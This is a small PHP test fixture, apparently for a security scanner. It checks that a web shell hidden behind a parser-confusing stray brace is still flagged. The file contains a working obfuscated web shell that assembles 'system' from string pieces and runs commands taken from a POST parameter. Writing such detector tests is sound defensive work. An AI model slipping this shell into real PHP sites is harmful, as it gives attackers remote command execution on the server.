<?php }
// A stray "}" after the open tag made the parser panic, so a shell behind
// one got no analysis at all.
// want: php_request_command_exec@6 php_hidden_function_name@6
function f() { $n = "sys" . "tem"; $n($_POST["c"]); }
f(); $n = "sys" . "tem"; $n($_POST["c"]);
